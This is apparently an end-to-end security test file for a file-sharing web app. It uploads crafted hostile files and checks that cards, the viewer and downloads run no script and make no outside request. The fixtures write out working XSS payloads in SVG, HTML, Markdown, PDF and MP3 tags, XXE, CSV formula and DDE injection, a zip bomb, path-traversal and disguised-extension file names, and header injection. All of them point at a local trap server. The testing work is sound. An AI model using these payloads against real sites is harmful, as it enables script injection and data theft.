import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page, Route } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect } from 'vitest';
import { newVisitor, type Visitor } from '../support/browser.ts';
import { makeZip } from '../support/files.ts';
import {
  type CreatedFolder,
  createFolderAs,
  createPlainFolder,
  type Person,
  runTus,
  signIn,
} from '../support/people.ts';
import { test } from '../support/shared.ts';
import type { Site } from '../support/site.ts';

/** Malicious files: each tries to run a script or to call an address in every way that its type allows. */

interface HostileFile {
  readonly name: string;
  readonly type: string;
  readonly content: Buffer;
}

const svg = (trapUrl: string) => `<?xml version="1.0"?>
<?xml-stylesheet href="${trapUrl}/style.css" type="text/css"?>
<!DOCTYPE svg [<!ENTITY steal SYSTEM "${trapUrl}/entity">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20"
  onload="globalThis.harm=true;fetch('${trapUrl}/onload')">
  <script>globalThis.harm=true;top.harm=true;fetch('${trapUrl}/script')</script>
  <script href="${trapUrl}/remote.js"/>
  <style>@import url("${trapUrl}/import.css"); rect { fill: url("${trapUrl}/fill") }</style>
  <image href="${trapUrl}/image.png" width="9" height="9"/>
  <use xlink:href="${trapUrl}/use.svg#a"/>
  <foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${trapUrl}/frame"/></foreignObject>
  <a href="javascript:globalThis.harm=true"><rect width="20" height="20"/></a>
  <text>&steal;</text>
</svg>`;

const html = (trapUrl: string) => `<!doctype html><meta http-equiv="refresh" content="0;url=${trapUrl}/refresh">
<base href="${trapUrl}/"><link rel="prefetch" href="${trapUrl}/prefetch"><img src="x" onerror="globalThis.harm=true">
<script>globalThis.harm=true;top.harm=true;alert('harm');fetch('${trapUrl}/html')</script>
<form action="${trapUrl}/form"><input autofocus onfocus="globalThis.harm=true"></form><iframe src="${trapUrl}/frame"></iframe>`;

const pdf = (trapUrl: string) => `%PDF-1.7
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\('harm'\\);app.launchURL\\('${trapUrl}/pdf'\\))>>
/AA<</WC<</S/URI/URI(${trapUrl}/close)>>>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/AA<</O<</S/URI/URI(${trapUrl}/open)>>>>>>endobj
trailer<</Root 1 0 R>>
%%EOF`;

/** Whole enough to be drawn: links and forms to click, streams and pictures that lie elsewhere, scripts at every chance. */
const linkedPdf = (trapUrl: string) => `%PDF-1.7
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 9 0 R/Names<</JavaScript<</Names[(a)9 0 R]>>>>
/AcroForm<</Fields[7 0 R]/CO[7 0 R]/XFA(<xdp><script>globalThis.harm=true</script></xdp>)>>/URI<</Base(${trapUrl}/)>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 99999999>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>/XObject<</X 8 0 R>>>>
/Annots[6 0 R 7 0 R]/AA<</O 9 0 R/C 9 0 R>>>>endobj
4 0 obj<</Length 74>>stream
BT /F 20 Tf 20 120 Td (A paper with <b>words</b>) Tj ET q 9 0 0 9 9 9 cm /X Do Q
endstream endobj
5 0 obj<</Type/Font/Subtype/TrueType/BaseFont/Arial/Encoding/WinAnsiEncoding>>endobj
6 0 obj<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<</S/URI/URI(${trapUrl}/link)>>/PA<</S/URI/URI(${trapUrl}/seen)>>>>endobj
7 0 obj<</Type/Annot/Subtype/Widget/FT/Tx/T(field)/Rect[20 20 90 40]/AA<</F 9 0 R/K 9 0 R>>
/A<</S/SubmitForm/F(${trapUrl}/form)>>>>endobj
8 0 obj<</Type/XObject/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceRGB/BitsPerComponent 8
/F<</FS/URL/F(${trapUrl}/picture)>>/Length 0>>stream
endstream endobj
9 0 obj<</S/JavaScript/JS(globalThis.harm=true;app.launchURL\\('${trapUrl}/pdf'\\))>>endobj
trailer<</Root 1 0 R>>
%%EOF`;

const markdown = (trapUrl: string) => `# <img src="${trapUrl}/title" onerror="globalThis.harm=true">

<script>globalThis.harm=true;fetch('${trapUrl}/markdown')</script>
<iframe src="${trapUrl}/frame"></iframe> inline <svg onload="globalThis.harm=true"><style>@import "${trapUrl}/css"</style>

![A picture](${trapUrl}/picture.png) ![two](data:image/svg+xml,<svg/onload=alert(1)>) [![three](${trapUrl}/three.png)][ref]
[script](javascript:globalThis.harm=true) [spaced](java\tscript:alert(1)) [entity](&#106;avascript:alert(1)) [data](data:text/html,<script>harm=true</script>)
[ref]: javascript:globalThis.harm=true "<b onclick=alert(1)>"
<javascript:globalThis.harm=true> <${trapUrl}/auto> ${trapUrl}/bare
\`<img src=x onerror=alert(1)>\` **bold \u202e turned \u2066 words**

| <img src=${trapUrl}/cell> | b |
|---|---|
| [c](vbscript:x) | <base href="${trapUrl}/"> |

${'> '.repeat(3000)}deep
${'['.repeat(2000)}${'*a_ '.repeat(2000)}
`;

const FORMULAS = (
  trapUrl: string,
) => `=HYPERLINK("${trapUrl}/formula"),+cmd|' /C calc'!A0,@SUM(1),<img src=${trapUrl}/csv>
"=IMPORTXML(""${trapUrl}/import"",""//a"")",-2,"<script>globalThis.harm=true</script>",\u202egpj
`;

const CONTROLS = '\u001b]0;harm\u0007\u001b[2Jif access != "user\u202e \u2066# only if admin\u2069 \u2066": pass';

/** One that says it holds more than any disk, in a directory that lies about its length. */
const bomb = () =>
  makeZip(
    Array.from({ length: 20 }, (_, at) => ({ name: `${at}.bin`, content: Buffer.from('0'), saidBytes: 0xfffffffe })),
    60_000,
  );

const trick = (trapUrl: string) =>
  makeZip([
    { name: '../../../../etc/passwd', content: Buffer.from('words') },
    { name: `<img src=x onerror="globalThis.harm=true;fetch('${trapUrl}/zip')">`, content: Buffer.from('words') },
    { name: 'photo\u202egpj.exe', content: Buffer.from('MZ') },
    { name: 'a\u0000\r\n\u200bb.txt', content: Buffer.from('words') },
  ]);

const big32 = (value: number) => Buffer.from([value >>> 24, (value >>> 16) & 255, (value >>> 8) & 255, value & 255]);
/** Sizes of ID3 tags have seven bits a byte. */
const synchsafe = (size: number) => Buffer.from([size >> 21, (size >> 14) & 127, (size >> 7) & 127, size & 127]);

/** A sound whose tags have markup, a cover that is a drawing with scripts, and one that lies elsewhere ("-->", ID3v2.3 4.15). */
function tagged(trapUrl: string): Buffer {
  const frame = (id: string, body: Buffer) =>
    Buffer.concat([Buffer.from(id), big32(body.length), Buffer.alloc(2), body]);
  const cover = (type: string, bytes: string) => frame('APIC', Buffer.from(`\0${type}\0\u0003\0${bytes}`, 'latin1'));
  const frames = Buffer.concat([
    frame('TIT2', Buffer.from(`\0<img src=x onerror="globalThis.harm=true">`)),
    frame('TPE1', Buffer.from(`\0<script>fetch('${trapUrl}/artist')</script>`)),
    cover('-->', `${trapUrl}/cover.png`),
    cover('image/svg+xml', svg(trapUrl)),
    cover('image/png', svg(trapUrl)),
  ]);
  return Buffer.concat([Buffer.from('ID3\u0003\0\0', 'latin1'), synchsafe(frames.length), frames, Buffer.alloc(500)]);
}

const EVENT = (trapUrl: string) => `fetch('${trapUrl}/name')`;

/** @param trapUrl origin of a server that must get no request */
function hostileFiles(trapUrl: string): HostileFile[] {
  const page = Buffer.from(html(trapUrl));
  const drawing = Buffer.from(svg(trapUrl));
  return [
    { name: 'drawing.svg', type: 'image/svg+xml', content: drawing },
    { name: 'a-drawing-that-says-png.png', type: 'image/png', content: drawing },
    { name: 'page.html', type: 'text/html', content: page },
    { name: 'a-page-that-says-picture.jpg', type: 'image/jpeg', content: page },
    { name: 'a-page-that-says-text.txt', type: 'text/plain', content: page },
    { name: 'a-page-that-says-film.mp4', type: 'video/mp4', content: page },
    { name: 'page.xhtml', type: 'application/xhtml+xml', content: Buffer.from(svg(trapUrl)) },
    { name: 'script.js', type: 'text/javascript', content: Buffer.from(`globalThis.harm=true;${EVENT(trapUrl)}`) },
    { name: 'paper.pdf', type: 'application/pdf', content: Buffer.from(pdf(trapUrl)) },
    { name: 'linked.pdf', type: 'application/pdf', content: Buffer.from(linkedPdf(trapUrl)) },
    { name: 'readme.md', type: 'text/markdown', content: Buffer.from(markdown(trapUrl)) },
    { name: 'formulas.csv', type: 'text/csv', content: Buffer.from(FORMULAS(trapUrl)) },
    { name: 'controls.py', type: 'text/x-python', content: Buffer.from(CONTROLS) },
    { name: 'lines.log', type: 'text/plain', content: Buffer.from('\n'.repeat(1_000_000)) },
    { name: 'bomb.zip', type: 'application/zip', content: bomb() },
    { name: 'trick.zip', type: 'application/zip', content: trick(trapUrl) },
    { name: 'a-page-that-says-zip.zip', type: 'application/zip', content: page },
    { name: 'a-page-that-says-photo.heic', type: 'image/heic', content: page },
    { name: 'a-page-that-says-photo.avif', type: 'image/avif', content: page },
    { name: 'song.mp3', type: 'audio/mpeg', content: tagged(trapUrl) },
    // Names: markup, paths, a reversed extension, control characters, a header's end.
    { name: `"><img src=x onerror="${EVENT(trapUrl)}">.png`, type: 'image/png', content: page },
    { name: '<script>globalThis.harm=true</script>.txt', type: 'text/plain', content: Buffer.from('words') },
    { name: '../../../../etc/passwd.txt', type: 'text/plain', content: Buffer.from('words') },
    { name: 'holiday\u202egpj.exe', type: 'application/octet-stream', content: Buffer.from('MZ') },
    { name: 'in\u200bvoice\u{e0061}.txt', type: 'text/plain', content: Buffer.from('words') },
    { name: 'two\r\nSet-Cookie: harm=1\r\n\r\nlines.txt', type: 'text/plain', content: Buffer.from('words') },
    // Types: invalid or forbidden in a header.
    { name: 'typed.bin', type: `text/html;x="${trapUrl}"`, content: page },
    { name: 'a.__proto__', type: '__proto__', content: Buffer.from('{"__proto__":{"harm":true}}') },
  ];
}

/** Malicious files: opened in any way, they run no script and send no request off the site. */

let site: Site;
let browser: Browser;
let owner: Person;
/** The address that the files try to call: every request that arrives is a leak. */
let trap: Server;
let trapUrl: string;
const trapped: string[] = [];

let visitor: Visitor;
/** Requests of the visitor's browser to other origins, and dialogs that a script opened. */
const escapes: string[] = [];
const dialogs: string[] = [];

function watch({ context }: Visitor): void {
  context.on('request', (request) => {
    const url = request.url();
    if (!url.startsWith(site.url) && !/^(data|blob|about):/.test(url)) escapes.push(url);
  });
  context.on('dialog', async (dialog) => {
    dialogs.push(dialog.message());
    await dialog.dismiss();
  });
}

const hasRun = (page: Page) =>
  Promise.all(page.frames().map((frame) => frame.evaluate<boolean>('Boolean(globalThis.harm)')));

async function expectNoHarm(): Promise<void> {
  for (const page of visitor.context.pages()) expect(await hasRun(page)).not.toContain(true);
  expect(escapes).toEqual([]);
  expect(trapped).toEqual([]);
  expect(dialogs).toEqual([]);
}

test.beforeAll(async ({ place }) => {
  ({ site, browser } = place);
  trap = createServer((request, response) => {
    trapped.push(`${request.method} ${request.url}`);
    response.end('globalThis.harm = true');
  });
  await new Promise<void>((resolve) => trap.listen(0, '127.0.0.1', resolve));
  trapUrl = `http://127.0.0.1:${(trap.address() as AddressInfo).port}`;
  owner = await signIn(site, 'mika');
});
beforeEach(async () => {
  visitor = await newVisitor(browser);
  watch(visitor);
});
afterAll(async () => {
  await new Promise((resolve) => trap.close(resolve));
});

/** Checks the trap and the watch themselves: otherwise their silence would prove nothing. */
test('a script that runs is noticed', async () => {
  const { page } = visitor;
  await page.goto(`${trapUrl}/`);
  await page.addScriptTag({ url: `${trapUrl}/script.js` });
  expect(await hasRun(page)).toEqual([true]);
  expect(trapped).toContain('GET /script.js');
  expect(escapes).toContain(`${trapUrl}/script.js`);
  await visitor.close();
  trapped.length = 0;
  escapes.length = 0;
});

/** Serves the page without Trusted Types, as for a browser that lacks them: the other defences must suffice. */
async function withoutTrustedTypes(route: Route): Promise<void> {
  const response = await route.fetch();
  const { 'content-security-policy': policy = '', ...headers } = response.headers();
  const rest = policy.split('; ').filter((directive) => !directive.includes('trusted-types'));
  expect(rest.length).toBe(policy.split('; ').length - 2);
  await route.fulfill({ response, headers: { ...headers, 'content-security-policy': rest.join('; ') } });
}

const addressOf = (path: string) =>
  `/storage/v1/object/public/unlocked-folders/${path.split('/').map(encodeURIComponent).join('/')}`;
const cards = (page: Page) => page.getByRole('grid', { name: 'Files' }).getByRole('gridcell');

/**
 * Has every card in view, so that it is rendered.
 * @param inViewer how many files only the viewer opens
 */
async function lookAtEverything(page: Page, count: number, inViewer = 0): Promise<void> {
  await page.setViewportSize({ width: 1280, height: 3000 });
  await expect.poll(() => cards(page).count()).toBe(count);
  await expect
    .poll(() =>
      cards(page)
        .getByText(/^(API|Decrypting|Downloading)/)
        .count(),
    )
    .toBe(inViewer);
  await expectNoHarm();
}

/**
 * Opens every file in the viewer, one after the other.
 * @param from where the addresses of pictures begin
 */
async function openEverything(page: Page, count: number, from = 'blob:'): Promise<void> {
  await cards(page).first().getByRole('button').first().click();
  const dialog = page.getByRole('dialog');
  await dialog.waitFor();
  for (let index = 1; index <= count; index++) {
    await dialog.getByText(`${index} / ${count}`).waitFor();
    // It is read, laid out and drawn, as far as it can be.
    await expect.poll(() => dialog.getByText('Loading', { exact: true }).count()).toBe(0);
    expect(await dialog.locator('iframe, embed, object, script, style, base, form').count()).toBe(0);
    expect(await dialog.locator(`a:not([href^="http"]), img:not([src^="blob:"], [src^="${from}"])`).count()).toBe(0);
    await expectNoHarm();
    if (index < count) await page.keyboard.press('ArrowRight');
  }
  await page.keyboard.press('Escape');
  await dialog.waitFor({ state: 'detached' });
}

describe('files of an encrypted folder', () => {
  test('do no harm as cards, in the viewer and as saved files', async () => {
    const files = hostileFiles(trapUrl).map(({ name, type, content }) => ({ name, mimeType: type, buffer: content }));
    const folder = await createFolderAs(owner, site, { name: '"><img src=x onerror=alert(1)>', files });
    const { page } = visitor;
    await page.goto(folder.link());
    await page.getByRole('heading', { name: '"><img src=x onerror=alert(1)>' }).waitFor();
    // The zips and the photo of a telephone.
    await lookAtEverything(page, files.length, 4);
    await page.getByText('in\ufffdvoice\ufffd.txt').first().waitFor();
    await openEverything(page, files.length);
    // Chromium drops what a page saves beyond ten files within a second.
    const named = cards(page).filter({
      has: page.getByRole('button', { name: /<|passwd|gpj|voice|lines\.txt|__proto__/ }),
    });
    expect(await named.count()).toBe(7);
    for (const card of await named.all()) {
      const save = async () => {
        // Behind a question, nothing has a role.
        const isProgram = (await card.getByRole('button', { name: /\.exe$/ }).count()) > 0;
        await card.getByRole('button', { name: 'Download' }).click();
        if (isProgram) await page.getByRole('alertdialog').getByRole('button', { name: 'Save' }).click();
      };
      const [download] = await Promise.all([page.waitForEvent('download'), save()]);
      expect(await download.failure()).toBeNull();
      // No name escapes the download folder or hides its type.
      expect(download.suggestedFilename()).not.toMatch(/[/\\\u202e\u200b]|^\.+$/);
    }
    await expectNoHarm();
    expect(visitor.problems()).toEqual([]);
    await visitor.close();
  });
});

describe('files of a folder that is not encrypted', () => {
  let folder: CreatedFolder;
  let paths: string[];

  beforeAll(async () => {
    folder = await createPlainFolder(owner, 'Plain harm');
    paths = [];
    for (const [index, { name, type, content }] of hostileFiles(trapUrl).entries()) {
      const [, base, extension] = /^(.*?)(\.\w+)$/su.exec(name.replaceAll(/[/\\\p{Cc}]/gu, '')) ?? [];
      const path = `${folder.bucket_storage_path}/${base}${index}_1763750000000_abcdefgh${extension}`;
      const metadata = { bucketName: 'unlocked-folders', objectName: path, contentType: type, cacheControl: '3600' };
      const { error } = await runTus({ url: site.url, person: owner, path }, content, { metadata });
      // Refused: an invalid type, a name that reverses its extension, and a name with invisible characters.
      if (!type.includes('/') || /[\u202e\u200b]/.test(name)) expect(error?.originalResponse?.getStatus()).toBe(400);
      else expect(error).toBeNull();
      if (!error) paths.push(path);
    }
  });

  test('do no harm as cards and in the viewer', async () => {
    const { page } = visitor;
    await page.goto(`${site.url}/f/${folder.slug}`);
    await lookAtEverything(page, paths.length);
    await openEverything(page, paths.length, '/storage/v1/object/public/');
    expect(visitor.problems()).toEqual([]);
    await visitor.close();
  });

  test('are saved and never shown when their own address is opened', async () => {
    const { page } = visitor;
    await page.goto('about:blank');
    for (const path of paths) {
      const address = `${site.url}${addressOf(path)}`;
      const [download] = await Promise.all([page.waitForEvent('download'), page.goto(address).catch(() => undefined)]);
      expect(await download.failure()).toBeNull();
      expect(page.url()).toBe('about:blank');
    }
    await expectNoHarm();
    await visitor.close();
  });

  // What Trusted Types refuse before any request is tests/e2e/page-scripts.
  test('can’t be framed, run as a script or taken as a style by another page, in a browser that has no Trusted Types', async () => {
    const { page } = visitor;
    visitor.allow(/ERR_BLOCKED|CORP|same-origin|MIME|nosniff|Refused|not executable|Content Security Policy|Trusted/i);
    await page.route(`${site.url}/`, withoutTrustedTypes);
    await page.goto(site.url);
    // The site's own origin would be the worst place to run them.
    const outcome = await page.evaluate(async (addresses) => {
      const loads = addresses.flatMap((address) =>
        ['script', 'iframe', 'object', 'embed'].map((tag) => {
          const element = document.createElement(tag);
          try {
            element.setAttribute(tag === 'object' ? 'data' : 'src', address);
          } catch {
            return `${tag} refused`;
          }
          document.body.append(element);
          return new Promise((resolve) => {
            element.addEventListener('load', () => resolve(`${tag} load`));
            element.addEventListener('error', () => resolve(`${tag} error`));
            // A script always ends in one of them; a frame whose answer is saved in place of being shown in neither.
            if (tag !== 'script') setTimeout(() => resolve(`${tag} silent`), 300);
          });
        }),
      );
      return Promise.all(loads);
    }, paths.map(addressOf));
    expect(outcome).not.toContain('script load');
    expect(outcome).not.toContain('script refused');
    expect(outcome).toContain('script error');
    await expectNoHarm();
    await visitor.close();
  });
});
